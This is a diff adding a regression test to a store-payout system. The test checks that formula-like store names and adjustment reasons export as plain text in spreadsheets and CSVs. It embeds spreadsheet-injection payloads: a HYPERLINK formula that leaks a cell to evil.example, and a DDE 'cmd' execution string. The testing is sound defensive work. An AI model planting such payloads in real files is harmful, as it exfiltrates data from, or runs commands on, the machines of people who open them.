@@ -1,9 +1,11 @@
 """Paying the stores (F-1..F-5): the four-eyes rule, a frozen batch, one Zengin file, the bank's
 results line by line, and each store seeing only its own statements."""
 
+import csv
 import io
 import subprocess
 import sys
+import zipfile
 from pathlib import Path
 
 import openpyxl
@@ -13,7 +15,7 @@ from sqlalchemy import select
 
 from kariya.audit import ledger_check
 from kariya.ledger import postings
-from kariya.models import Campaign, PayoutBatch, Store
+from kariya.models import Campaign, PayoutAdjustment, PayoutBatch, Store
 from kariya.payouts import zengin
 from tests.conftest import DATABASE_URL
 from tests.helpers import (
@@ -308,3 +310,103 @@ def test_payouts_cli_keeps_the_same_rules(tmp_path, testapp, db, spent):
     assert done.returncode == 0, done.stderr
     assert zengin.parse((tmp_path / "z.txt").read_bytes()).total == 1_000
     assert db.scalar(select(Store.code).where(Store.id == spent[0].id)) == "S0001"
+
+
+# --- typed text in the payment spreadsheets (I-10; issue 14, defect 1) --------------------------
+
+# What the security review typed as store names: a full-width ＝, a space or U+3000 before "=".
+TYPED_NAMES = [
+    '＝HYPERLINK("http://evil.example/?"&D3,"明細")',
+    " =cmd|' /C calc'!A0",
+    "\u3000=1+1",
+]
+
+
+def _cells(data: bytes) -> list:
+    """Every cell of every sheet of an .xlsx, as openpyxl reads it back."""
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+
+
+def _formulas(data: bytes) -> list[str]:
+    return [c.coordinate for c in _cells(data) if c.data_type == "f"]
+
+
+def _texts(data: bytes) -> set:
+    return {c.value for c in _cells(data) if c.data_type == "s"}
+
+
+def test_typed_text_is_text_in_the_payment_spreadsheets_and_csv(testapp, db, registry, tmp_path):
+    """I-10, F-1, F-5: store names as the import stored them before it checked normalised
+    values (NFKC and trimming turn each of TYPED_NAMES into text starting with "="), and an
+    adjustment reason "=1+1", reach the city's batch workbook and every store's statement as
+    string cells, never formulas, and the CSV files (the exports, the materials' index) with a
+    leading '. (The import now refuses such names: test_store_import.py.)"""
+    from kariya.materials import sets
+    from kariya.reports import exports
+    from kariya.stores import normalize
+
+    load_campaign(db, total=60_000, rounds=6)
+    names = [normalize.text(typed) for typed in TYPED_NAMES]
+    assert all(name.startswith("=") for name in names)  # what main's import stored
+    stores = []
+    for n, name in enumerate(names, start=1):
+        store = make_store(db, f"S000{n}", name)
+        store.bank_code, store.branch_code, store.account_type = "0001", "004", "普通"
+        store.account_number, store.account_holder_kana = f"000000{n}", "カリヤセイカテン"
+        stores.append(store)
+    db.commit()
+    testapp.put_json("/dev/clock", {"now": ROUND1.replace(hour=10).isoformat(), "frozen": True})
+    token = login_resident(testapp)
+    testapp.post("/api/v1/acquisitions", headers={"X-CSRF-Token": token}, status=201)
+    for store in stores:
+        testapp.post_json(
+            "/api/v1/redemptions",
+            {"store_token": store.qr_token, "coupons": 1, "bill_amount": 3000},
+            headers={"X-CSRF-Token": token},
+            status=201,
+        )
+    testapp.put_json("/dev/clock", {"now": "2024-01-16T10:00:00+09:00", "frozen": True})
+    secretariat = staff_app(testapp, db, "secretariat", "sec1")
+    city = staff_app(testapp, db, "city", "city1")
+    post(
+        secretariat,
+        "/secretariat/adjustments",
+        "/secretariat/adjustments",
+        {"store_code": "S0001", "amount": "100", "reason": "=1+1"},
+    )
+    adjustment = db.scalar(select(PayoutAdjustment))
+    assert adjustment.reason == "=1+1"
+    post(city, "/city/adjustments", f"/city/adjustments/{adjustment.id}/approve")
+    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
+    batch = db.scalar(select(PayoutBatch))
+
+    for data in (
+        secretariat.get(f"/secretariat/payouts/{batch.id}.xlsx").body,
+        city.get(f"/city/payouts/{batch.id}.xlsx").body,
+    ):
+        assert _formulas(data) == []
+        assert set(names) <= _texts(data)  # as stored, as text
+    for n, store in enumerate(stores, start=1):
+        own = staff_app(testapp, db, "store", f"store{n}", store_code=store.code)
+        data = own.get(f"/store/statements/{batch.id}.xlsx").body
+        assert _formulas(data) == []
+        assert store.name in _texts(data)
+        if n == 1:
+            assert "=1+1" in _texts(data)  # the adjustment's reason
+
+    for fmt in ("csv", "xlsx"):  # the city's exports (C-2, DESIGN §5.3)
+        out = tmp_path / f"stores.{fmt}"
+        with out.open("wb") as file:
+            exports.write(db, "stores", file, fmt)
+        if fmt == "xlsx":
+            assert _formulas(out.read_bytes()) == []
+            continue
+        rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+        assert {row[1] for row in rows[1:]} == {"'" + name for name in names}
+    archive_path = tmp_path / "materials.zip"  # the secretariat's bulk build (S-2)
+    sets.build_all(db, registry.settings, archive_path)
+    with zipfile.ZipFile(archive_path) as archive:
+        index = archive.read("index.csv").decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(index)))
+    assert [row[1] for row in rows[1:]] == ["'" + name for name in names]
